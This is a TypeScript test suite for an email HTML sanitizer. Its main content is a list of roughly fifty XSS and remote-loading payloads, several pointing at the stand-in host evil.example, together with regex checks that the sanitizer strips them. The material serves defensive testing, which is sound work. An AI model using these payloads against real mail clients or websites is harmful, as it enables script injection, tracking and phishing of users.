import { describe, expect, it } from 'vitest'
import { htmlToText, sanitizeMailHtml } from '../../../native/intake/html.ts'
import { cleanStyle } from '../../../native/intake/html-style.ts'

const clean = (html: string) => sanitizeMailHtml(html).html

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file://server/share/x.exe">x</a>',
  '<a href="\\\\server\\share\\x.exe">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="/relative">x</a>',
  '<a href="ms-msdt:/id PCWDiagnostic">x</a>',
  '<a href="search-ms:query=x">x</a>',
  '<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="http://evil.example"></iframe>',
  '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example">',
  '<form action="http://evil.example"><input name=p><button formaction="javascript:alert(1)">ok</button></form>',
  '<meta http-equiv="refresh" content="0;url=http://evil.example">',
  '<base href="http://evil.example/">',
  '<link rel=stylesheet href="http://evil.example/x.css">',
  '<style>@import url(http://evil.example/x.css); body{background:url(http://evil.example/a.png)}</style>',
  '<div style="background:url(http://evil.example/a.png)">x</div>',
  '<div style="background-image:u\\72l(http://evil.example/a.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(x.xml)">x</div>',
  '<div style="color:red;background:image-set(\'http://evil.example/a.png\' 1x)">x</div>',
  '<table background="http://evil.example/a.png"><tr><td background=//evil.example/b.png>x</td></tr></table>',
  '<img srcset="http://evil.example/a.png 1x, http://evil.example/b.png 2x">',
  '<picture><source srcset="http://evil.example/a.webp"><img src="http://evil.example/a.png"></picture>',
  '<video poster="http://evil.example/a.png"><source src="http://evil.example/a.mp4"></video><audio src="http://evil.example/a.mp3">',
  '<img src="http://evil.example/a.png" alt="<script>alert(1)</script>">',
  '<img src="\\\\evil.example\\share\\a.png"><img src="file://evil.example/share/a.png">',
  '<input type=image src="http://evil.example/a.png">',
  '<body onload=alert(1) background="http://evil.example/a.png">x</body>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->x',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xmp><img src=x onerror=alert(1)></xmp><textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<template><img src=x onerror=alert(1)></template><title><img src=x onerror=alert(1)></title>',
  '<p style="font-family:\'</style><script>alert(1)</script>\'">x</p>',
  '<a href="http://ok.example" onclick="alert(1)" style="position:fixed;top:0;left:0;width:100%">x</a>',
  '<div id=x name=y class="evil" data-x="1" contenteditable>x</div>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<a href="http://a.example" ping="http://evil.example">x</a>',
  '<details ontoggle=alert(1) open>x</details><marquee onstart=alert(1)>x</marquee>',
  '<isindex action=javascript:alert(1)><keygen onfocus=alert(1) autofocus>',
]

describe('sanitizeMailHtml', () => {
  it.each(attacks)('defuses %s', (attack) => {
    const html = clean(`${attack}<p>end</p>`)
    const tags = html.match(/<[^>]*>/g)?.join('') ?? ''
    expect(tags).not.toMatch(
      /<(script|svg|math|iframe|object|embed|form|input|button|meta|base|link|style|video|audio|source|picture|body|template|noscript|xmp|textarea)/i,
    )
    expect(tags).not.toMatch(/\son\w+\s*=/i)
    expect(tags).not.toMatch(
      /(href|src|action|data|background|srcset|poster|ping)\s*=\s*"?\s*(javascript|vbscript|data:text|file|\\|\/)/i,
    )
    expect(tags).not.toMatch(/url\(|expression|@import|behavior|image-set|position|evil\.example/i)
    expect(html).toContain('end')
  })

  it('stays clean when what it made is read again', () => {
    for (const attack of attacks) expect(clean(clean(attack))).toBe(clean(attack))
  })

  it('counts what would have been fetched', () => {
    const { remoteImages } = sanitizeMailHtml(
      '<img src="http://a.example/1.png"><img src="//a.example/2.png"><td background="http://a.example/3.png">x</td><p style="background:url(http://a.example/4.png)">x</p><img src="cid:x">',
    )
    expect(remoteImages).toBe(4)
  })

  it('keeps attached pictures, tables, links, colours and the words for a picture that is gone', () => {
    const { html, contentIds } = sanitizeMailHtml(
      '<table width="600" bgcolor="#eeeeee"><tr><td style="color:#333; padding:4px; font-family:Arial, \'Segoe UI\'">Hallo</td></tr></table>' +
        '<img src="cid:bild%201@x" alt="Welle"><img src="https://a.example/x.png" alt="Logo"><a href="https://shop.example/?a=1&amp;b=2">Shop</a>',
    )
    expect(contentIds).toEqual(['bild 1@x'])
    expect(html).toContain('src="cid:bild%201%40x"')
    expect(html).toContain("color: #333; padding: 4px; font-family: Arial, 'Segoe UI'")
    expect(html).toContain('href="https://shop.example/?a=1&amp;b=2"')
    expect(html).toContain('<span>Logo</span>')
  })

  it('keeps the text of all that it throws away but scripts and styles', () => {
    expect(clean('<form>Formular <b>Text</b></form><unknown>noch etwas</unknown>')).toContain(
      'Formular <b>Text</b>noch etwas',
    )
  })

  it('survives depth and size', () => {
    expect(clean(`${'<div>'.repeat(20_000)}tief`)).toContain('tief')
    expect(clean('<a '.repeat(50_000))).toBe('')
    expect(clean('<'.repeat(100_000))).not.toContain('<')
  })
})

describe('cleanStyle', () => {
  it('lets colours through that look like functions', () => {
    expect(cleanStyle('color: rgb(1, 2, 3); background-color: rgba(0,0,0,.5)').css).toBe(
      'color: rgb(1, 2, 3); background-color: rgba(0,0,0,.5)',
    )
  })
  it('drops escapes, unknown properties and everything that could load', () => {
    expect(cleanStyle('colo\\72: red; position: fixed; background: url(x); top: 0; color: var(--x)').css).toBe('')
  })
})

describe('htmlToText', () => {
  it('marks quotes, so that they can be told from the answer', () => {
    expect(htmlToText('<p>Ja.</p><blockquote>Kommen Sie?<br>Dienstag?</blockquote>')).toBe(
      'Ja.\n\n> Kommen Sie?\n> Dienstag?',
    )
  })
  it('keeps the cells of a table apart', () => {
    expect(htmlToText('<table><tr><td>Teil</td><td>Menge</td></tr><tr><td>HK-1</td><td>2</td></tr></table>')).toMatch(
      /Teil\s+Menge\s+HK-1\s+2/,
    )
  })
})
